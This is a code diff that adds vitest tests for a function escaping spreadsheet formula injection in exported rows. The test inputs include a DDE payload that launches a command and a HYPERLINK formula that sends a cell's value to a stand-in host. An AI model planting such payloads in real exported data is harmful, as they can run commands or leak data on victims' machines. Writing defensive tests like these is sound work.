@@ -1,6 +1,6 @@
 import fc from 'fast-check';
 import { describe, expect, test } from 'vitest';
-import { freeName, jsonLineWith } from '../../src/corpus/write-rows.ts';
+import { freeName, jsonLineWith, spreadsheetCell } from '../../src/corpus/write-rows.ts';
 
 describe('jsonLineWith', () => {
   test('adds properties and leaves what was there as it was written', () => {
@@ -30,4 +30,29 @@ describe('jsonLineWith', () => {
 test('freeName leaves the names that are taken alone', () => {
   expect(freeName('rating', ['id', 'text'])).toBe('rating');
   expect(freeName('rating', ['rating', 'rating_2'])).toBe('rating_3');
+});
+
+describe('a cell for a spreadsheet', () => {
+  test.each([
+    '=1+1',
+    '=HYPERLINK("http://x?"&A1)',
+    '+1+1',
+    "-2+3+cmd|' /C calc'!A0",
+    '@SUM(A1)',
+    ' =1+1',
+    '\t=1+1',
+    '\r=1',
+    '\nx',
+    '\uff1d1+1',
+    '- not a number',
+  ])('that could be a formula gets an apostrophe: %j', (field) => {
+    expect(spreadsheetCell(field)).toBe(`'${field}`);
+  });
+
+  test.each(['', 'good = bad', '-3', '+4.5', '-1e-3', '.5', '5', "'=1", 'a@b.c', '"=1+1"'])(
+    'that could not stays as it is: %j',
+    (field) => {
+      expect(spreadsheetCell(field)).toBe(field);
+    },
+  );
 });
